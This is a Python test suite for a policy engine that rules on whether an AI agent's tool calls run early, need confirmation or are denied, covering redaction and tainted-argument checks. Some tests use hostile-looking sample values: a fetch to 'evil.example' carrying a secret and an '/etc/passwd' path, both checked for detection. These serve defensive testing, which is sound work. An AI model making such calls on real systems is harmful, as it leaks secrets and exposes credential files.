"""The semantics of policy.md, sentence by sentence, on calls one can read."""

# ruff: noqa: E501 - tables of policies and calls read best with a case per line

from __future__ import annotations

from typing import Any

import pytest

from specflow.effects.annotate import Annotation
from specflow.effects.call import Call
from specflow.effects.kind import EffectClass
from specflow.effects.registry import ToolRegistry
from specflow.effects.tool import ToolSpec
from specflow.policy import Policy, loads
from specflow.policy.verdict import Verdict

BOOK = """
version: 1
tools:
  book_flight:
    effect: compensatable
    speculate: hold
    predictors: [partial_call, draft]
    destinations: {host: desk.example}
    compensate: {tool: cancel_booking, with: {booking_id: result.booking_id}}
    rules:
      - id: refundable-small
        when: args.fare == "refundable" && args.amount <= 200
        allow: {speculate: now, min_confidence: 0.9}
      - id: large-amount
        when: args.amount > 1000 || args.passengers > 4
        unless: context.user.role == "agent"
        require: {effect: confirmation_required}
"""


def policy(body: str, tools: ToolRegistry | None = None) -> Policy:
    return loads("version: 1\n" + body + "\n", tools=tools)


def judge(found: Policy, name: str, args: Any = None, **options: Any) -> Verdict:
    tool = options.pop("tool", ToolSpec(name=name))
    options.setdefault("context", {})
    return found.judge(tool, Call(tool=name, args=args or {}), **options)


def said(verdict: Verdict) -> tuple[str, str]:
    return str(verdict.effect), str(verdict.speculate)


def codes(verdict: Verdict) -> list[str]:
    return [reason.code for reason in verdict.reasons]


@pytest.mark.parametrize(
    ("args", "context", "expected", "reasons"),
    [
        ({"fare": "refundable", "amount": 150, "passengers": 1}, {}, ("compensatable", "now"), {"refundable-small"}),
        ({"fare": "saver", "amount": 150, "passengers": 1}, {}, ("compensatable", "hold"), {"speculate"}),
        ({"fare": "refundable", "amount": 5000, "passengers": 1}, {}, ("confirmation_required", "never"), {"large-amount", "never_early"}),
        ({"fare": "refundable"}, {}, ("confirmation_required", "never"), {"large-amount"}),
        ({"fare": "refundable", "amount": "150", "passengers": 1}, {}, ("confirmation_required", "never"), {"large-amount"}),
        ({"fare": "refundable", "amount": 5000, "passengers": 1}, {"user": {"role": "agent"}}, ("compensatable", "hold"), {"speculate"}),
        ({"fare": "refundable", "amount": 5000, "passengers": 1}, {"user": {}}, ("confirmation_required", "never"), {"large-amount"}),
        ({"fare": "refundable"}, {"user": {"role": "agent"}}, ("compensatable", "hold"), {"speculate"}),
    ],
)  # fmt: skip
def test_the_example_of_the_design(args: Any, context: Any, expected: Any, reasons: set[str]) -> None:
    verdict = judge(loads(BOOK), "book_flight", args, context=context)
    assert said(verdict) == expected
    assert reasons <= set(codes(verdict))


def test_a_verdict_says_why_and_where() -> None:
    verdict = judge(loads(BOOK), "book_flight", {"fare": "refundable", "amount": 150, "passengers": 1})
    assert verdict.min_confidence == 0.9
    assert verdict.predictors == {"partial_call", "draft"}
    assert [(r.code, r.where) for r in verdict.reasons] == [
        ("declared", "<text>:4:3"),
        ("refundable-small", "<text>:11:9"),
    ]
    broken = judge(loads(BOOK), "book_flight", {})
    assert "cannot be evaluated: the field 'passengers' is missing" in broken.reasons[1].message


def test_an_unless_that_cannot_be_evaluated_blocks_an_allow() -> None:
    found = policy(
        "tools:\n  s:\n    effect: read_only\n    speculate: hold\n    rules:\n"
        "      - {id: quick, when: 'true', unless: args.slow, allow: {speculate: now}}"
    )
    assert said(judge(found, "s", {"slow": False})) == ("read_only", "now")
    assert said(judge(found, "s", {"slow": True})) == ("read_only", "hold")
    assert said(judge(found, "s", {"slow": "x"})) == ("read_only", "hold")
    assert said(judge(found, "s")) == ("read_only", "hold")


def test_unlisted_tools() -> None:
    verdict = judge(policy("tools: {}"), "x")
    assert said(verdict) == ("confirmation_required", "never")
    assert (verdict.confirm, codes(verdict)) == ("host", ["unlisted", "never_early"])
    strict = policy("defaults: {unlisted_tools: deny, confirm_unlisted: ask}")
    assert said(judge(strict, "x")) == ("deny", "never")
    assert judge(strict, "x").confirm == "ask"
    assert said(judge(policy("tools: {x: {timeout: 1s}}"), "x")) == ("confirmation_required", "never")
    assert judge(policy("tools: {x: {timeout: 1s}}"), "x").confirm == "host"


@pytest.mark.parametrize(
    ("entry", "expected", "confirm"),
    [
        ("effect: confirmation_required", "confirmation_required", "ask"),
        ("effect: confirmation_required, confirm: host", "confirmation_required", "host"),
        ("effect: confirmation_required, speculate: now", "confirmation_required", "ask"),
        ("effect: deny", "deny", "ask"),
        ("effect: read_only, status: proposed", "confirmation_required", "ask"),
        ("effect: deny, status: proposed", "deny", "ask"),
    ],
)
def test_who_asks(entry: str, expected: str, confirm: str) -> None:
    verdict = judge(policy(f"tools: {{x: {{{entry}}}}}"), "x")
    assert said(verdict) == (expected, "never")
    assert verdict.confirm == confirm


@pytest.mark.parametrize(
    ("entry", "expected"),
    [
        ("effect: read_only", ("read_only", "now")),
        ("effect: read_only, speculate: hold", ("read_only", "hold")),
        ("effect: compensatable", ("compensatable", "hold")),
        ("effect: compensatable, speculate: never", ("compensatable", "never")),
        ("effect: compensatable, speculate: now", ("compensatable", "hold")),
        ("effect: compensatable, speculate: now, compensate: {tool: u, with: {}}", ("compensatable", "now")),
    ],
)
def test_when_it_may_run(entry: str, expected: tuple[str, str]) -> None:
    assert said(judge(policy(f"tools: {{x: {{{entry}}}}}"), "x")) == expected


def annotated(effect: EffectClass, name: str = "x", **more: Any) -> ToolSpec:
    return ToolSpec(name=name, annotation=Annotation(effect=effect, **more))


def test_annotations_declare_where_the_policy_is_silent() -> None:
    empty = policy("tools: {}")
    for effect, expected in (
        (EffectClass.READ_ONLY, ("read_only", "now")),
        (EffectClass.COMPENSATABLE, ("compensatable", "hold")),
        (EffectClass.CONFIRMATION_REQUIRED, ("confirmation_required", "never")),
    ):
        verdict = judge(empty, "x", tool=annotated(effect))
        assert said(verdict) == expected
        assert "annotated" in codes(verdict)
        assert verdict.confirm == "ask"
    distrust = policy("defaults: {trust_annotations: false}")
    assert said(judge(distrust, "x", tool=annotated(EffectClass.READ_ONLY))) == (
        "confirmation_required",
        "never",
    )
    assert said(judge(distrust, "x", tool=annotated(EffectClass.DENY))) == ("deny", "never")


def test_the_annotation_is_the_floor_until_a_person_reviews() -> None:
    tool = annotated(EffectClass.CONFIRMATION_REQUIRED)
    loose = judge(policy("tools: {x: {effect: read_only}}"), "x", tool=tool)
    assert said(loose) == ("confirmation_required", "never")
    assert tool.schema_hash in loose.reasons[0].message
    reviewed = policy(f"tools: {{x: {{effect: read_only, reviewed: {tool.schema_hash}}}}}")
    assert said(judge(reviewed, "x", tool=tool)) == ("read_only", "now")
    tighter = judge(policy("tools: {x: {effect: deny}}"), "x", tool=tool)
    assert said(tighter) == ("deny", "never")
    distrust = policy("defaults: {trust_annotations: false}\ntools: {x: {effect: read_only}}")
    assert said(judge(distrust, "x", tool=tool)) == ("confirmation_required", "never")


def test_a_review_ends_when_the_schema_changes() -> None:
    tool = ToolSpec(name="x")
    changed = ToolSpec(name="x", parameters={"type": "object", "properties": {"path": {"type": "string"}}})
    for status in ("", "status: proposed, ", "status: reviewed, "):
        found = policy(f"tools: {{x: {{{status}effect: read_only, reviewed: {tool.schema_hash}}}}}")
        assert said(judge(found, "x", tool=tool)) == ("read_only", "now")
        verdict = judge(found, "x", tool=changed)
        assert said(verdict) == ("confirmation_required", "never")
        assert verdict.schema_hash == changed.schema_hash
        assert "schema_changed" in codes(verdict)
        assert said(found.explain(Call(tool="x"))) == ("read_only", "now")


def test_a_proposal_does_not_loosen_what_holds_without_it() -> None:
    found = policy("defaults: {unlisted_tools: deny}\ntools: {x: {status: proposed, effect: read_only}}")
    assert said(judge(found, "x")) == ("deny", "never")


def test_names_are_exact_unless_a_star_is_written() -> None:
    found = policy(
        'tools: {get: {effect: read_only}, "mcp:git/*": {effect: read_only}, "a.c*": {effect: read_only}}'
    )
    for name, effect in (
        ("get", "read_only"), ("get_all", "confirmation_required"), ("Get", "confirmation_required"),
        ("mcp:git/x", "read_only"), ("mcp:git/", "read_only"), ("mcp:github/x", "confirmation_required"),
        ("a.cd", "read_only"), ("abcd", "confirmation_required"), ("x" * 5000, "confirmation_required"),
        ("mcp:git/" + "x" * 500, "confirmation_required"),
    ):  # fmt: skip
        assert judge(found, name).effect == effect, name


def test_patterns_and_names_merge_by_strictness() -> None:
    found = policy(
        'tools: {"*": {effect: confirmation_required, timeout: 5s}, get: {effect: read_only, timeout: 9s}, '
        '"put*": {timeout: 2s}, put: {effect: deny}}'
    )
    assert said(judge(found, "get")) == ("confirmation_required", "never")
    assert said(judge(found, "put")) == ("deny", "never")
    assert found.settings(ToolSpec(name="get")).timeout == 9.0
    assert found.settings(ToolSpec(name="put")).timeout == 2.0
    assert found.settings(ToolSpec(name="other")).timeout == 5.0


def test_an_entry_that_only_sets_a_timeout_says_nothing_about_when() -> None:
    found = policy(
        'tools: {"*": {timeout: 5s}, x: {effect: compensatable, speculate: now, compensate: {tool: u, with: {}}}}'
    )
    assert said(judge(found, "x")) == ("compensatable", "now")


def test_requires_tighten_everything_but_never_loosen() -> None:
    rules = (
        "rules: [{id: a, when: 'true', require: {speculate: hold}}, {id: b, when: 'true', require: {min_confidence: 0.95, confirm: ask}},"
        "{id: c, when: 'false', require: {speculate: never}}]"
    )
    verdict = judge(policy(f"tools: {{x: {{effect: read_only, confirm: host, {rules}}}}}"), "x")
    assert said(verdict) == ("read_only", "hold")
    assert (verdict.min_confidence, verdict.confirm) == (0.95, "ask")
    lower = judge(
        policy(
            "tools: {x: {effect: read_only, min_confidence: 0.8, rules: [{id: a, when: 'true', require: {min_confidence: 0.1}}]}}"
        ),
        "x",
    )
    assert lower.min_confidence == 0.8


def test_an_allow_cannot_lower_the_confidence() -> None:
    body = "tools: {x: {effect: read_only, speculate: hold, min_confidence: 0.8, rules: [{id: a, when: 'true', allow: {speculate: now, min_confidence: 0.1}}, {id: b, when: 'true', allow: {speculate: now, min_confidence: 0.9}}]}}"
    verdict = judge(policy(body), "x")
    assert (verdict.speculate, verdict.min_confidence) == ("now", 0.8)
    assert "a" in codes(verdict)


def test_writes_are_started_by_partial_calls_only() -> None:
    body = "tools: {x: {effect: compensatable}, y: {effect: read_only}, z: {effect: read_only, predictors: [draft]}}"
    found = policy(body)
    assert judge(found, "x").predictors == {"partial_call"}
    assert judge(found, "y").predictors is None
    assert judge(found, "z").predictors == {"draft"}


def test_what_is_not_registered_or_takes_state_is_never_early() -> None:
    found = policy("tools: {x: {effect: read_only}}")
    verdict = found.judge(None, Call(tool="x"), context={})
    assert said(verdict) == ("confirmation_required", "never")
    assert "unregistered" in codes(verdict)
    state = judge(found, "x", tool=ToolSpec(name="x", injected=frozenset({"state"})))
    assert said(state) == ("read_only", "never")
    assert "injected" in codes(state)


UNDO = "tools: {x: {effect: compensatable, speculate: now, destinations: {host: h.example}, writes: %s, compensate: {tool: u, with: {a: %s}}}}"


@pytest.mark.parametrize(
    ("writes", "argument", "args", "expected", "message"),
    [
        ('["s:{args.id}"]', "args.id", {"id": 1}, "now", ""),
        ('["s:{args.id}"]', "result.id", {}, "now", ""),
        ('["s:{args.id}"]', "key", {}, "now", ""),
        (
            '["s:{args.id}"]',
            "args.id",
            {},
            "hold",
            "the argument 'a' of u cannot be formed: the field 'id' is missing",
        ),
        ('["s:{args.id}"]', "args.id + 1", {"id": "x"}, "hold", "wrong type"),
        ('["s:{ result.id}"]', "args.id", {"id": 1}, "hold", "built from arguments alone"),
    ],
)
def test_a_write_runs_early_only_if_its_undo_can_be_called(
    writes: str, argument: str, args: Any, expected: str, message: str
) -> None:
    verdict = judge(policy(UNDO % (writes, argument)), "x", args)
    assert verdict.speculate == expected
    assert any(message in reason.message for reason in verdict.reasons)


@pytest.mark.parametrize(
    ("redact", "tool", "expected"),
    [
        ("args.card", "effect: compensatable, compensate: {tool: u, with: {a: args.card.number}}", "never"),
        ("args.card.number", "effect: compensatable, compensate: {tool: u, with: {a: args.card}}", "never"),
        ("args.*.number", "effect: compensatable, compensate: {tool: u, with: {a: args.card.number}}", "never"),
        ("args.card", "effect: compensatable, compensate: {tool: u, with: {a: 'args[args.which]'}}", "never"),
        ("args.card", "effect: compensatable, compensate: {tool: u, with: {a: args.id}}", "now"),
        ("args.card", "effect: compensatable, compensate: {tool: u, with: {a: key}}, verify: {tool: v, with: {c: args.card}}", "never"),
        ("result.token", "effect: compensatable, compensate: {tool: u, with: {a: result.id}}", "never"),
        ("result.token", "effect: read_only", "now"),
        ("args.card", "effect: read_only", "now"),
    ],
)  # fmt: skip
def test_what_needs_a_redacted_field_is_never_early(redact: str, tool: str, expected: str) -> None:
    args = {"id": 1, "card": {"number": 1}, "which": "id"}
    for body in (
        f"defaults: {{redact: [{redact}]}}\ntools: {{x: {{{tool}, speculate: now}}}}",
        f"tools: {{x: {{{tool}, speculate: now, redact: [{redact}]}}}}",
    ):
        assert judge(policy(body), "x", args).speculate == expected


def test_tainted_arguments_go_only_where_the_policy_says() -> None:
    for destinations, expected in (
        ("", "hold"),
        ("destinations: {host: h.example}", "now"),
        ("destinations: {path: /srv/}", "now"),
        ("destinations: {host: '*'}", "hold"),
        ("destinations: {host: h.example, email: '*'}", "hold"),
    ):
        found = policy(f"tools: {{x: {{effect: read_only, {destinations}}}}}")
        verdict = judge(found, "x", {"id": "A1"}, tainted=True)
        assert verdict.speculate == expected, destinations
        assert ("tainted" in codes(verdict)) == (expected == "hold")
        assert bool(verdict.withheld) == (expected == "hold")
        assert judge(found, "x", {"id": "A1"}).speculate == "now"


def test_a_private_call_is_held_and_says_what_to_add() -> None:
    verdict = judge(
        policy("tools: {fetch: {effect: read_only}}"), "fetch", {"url": "https://evil.example/?q=secret"}
    )
    assert said(verdict) == ("read_only", "hold")
    assert verdict.withheld == ("args.url: URL",)
    assert "`destinations: {host: ...}` to tools.fetch" in verdict.reasons[-1].message
    assert "secret" not in str(verdict)
    for value, key in (("a@b.example", "email"), ("/etc/passwd", "path")):
        assert (
            f"{{{key}: ...}}"
            in judge(policy("tools: {f: {effect: read_only}}"), "f", {"x": value}).reasons[-1].message
        )


def test_every_declaration_must_cover() -> None:
    body = 'tools: {"f*": {effect: read_only, destinations: {host: a.example}}, f: {effect: read_only, destinations: {host: [a.example, b.example]}}}'
    found = policy(body)
    assert judge(found, "f", {"u": "https://a.example/"}).speculate == "now"
    assert judge(found, "f", {"u": "https://b.example/"}).speculate == "hold"


class Hostile(dict[str, Any]):
    def items(self) -> Any:
        raise RuntimeError("no")


def test_a_judge_that_fails_permits_nothing() -> None:
    rules = "rules: [{id: r, when: context.a == 1, require: {speculate: hold}}]"
    found = policy(f"tools: {{x: {{effect: read_only, {rules}}}}}")
    verdict = judge(found, "x", context=Hostile(a=1))
    assert said(verdict) == ("confirmation_required", "never")
    assert codes(verdict) == ["error"]


def test_context_that_is_not_plain_data_tightens() -> None:
    rules = "rules: [{id: r, when: context.admin, require: {effect: deny}}]"
    found = policy(f"tools: {{x: {{effect: read_only, {rules}}}}}")
    assert judge(found, "x", context={"admin": False}).effect == "read_only"
    assert judge(found, "x", context={"admin": False, "user": object()}).effect == "deny"


def test_any_number_of_invented_names_is_forgotten_again() -> None:
    found = policy("tools: {}")
    for index in range(5000):
        judge(found, f"t{index}")
    assert len(found._plans) <= 4096


def test_a_condition_may_be_written_without_quotes() -> None:
    found = policy("tools: {x: {effect: read_only, rules: [{id: r, when: true, require: {effect: deny}}]}}")
    assert judge(found, "x").effect == "deny"


def test_a_verdict_cannot_contradict_itself() -> None:
    from dataclasses import replace

    from specflow.errors import InvariantError

    verdict = judge(policy("tools: {x: {effect: read_only}}"), "x")
    with pytest.raises(InvariantError, match="without reasons"):
        replace(verdict, reasons=())
    with pytest.raises(InvariantError, match="never run early"):
        replace(verdict, effect=EffectClass.DENY)


def test_conditions_see_every_argument_they_read() -> None:
    body = "tools: {x: {effect: read_only, rules: [{id: r, when: '%s', require: {effect: deny}}]}}"
    args = {"a": 1, "b": {"c": 2}, "d": "a"}
    for source in (
        "args.a == 1", "args.b.c == 2", "size(args) == 3", "args[args.d] == 1", "has(args.b)", '"d" in args',
    ):  # fmt: skip
        assert judge(policy(body % source), "x", args).effect == "deny", source
    assert judge(policy(body % "size(args) > 3"), "x", args).effect == "read_only"
    for extra in (2**70, "x" * 20_000, [[0] * 100] * 100):
        assert judge(policy(body % "args.a > 1"), "x", {"a": 1, "more": extra}).effect == "deny"
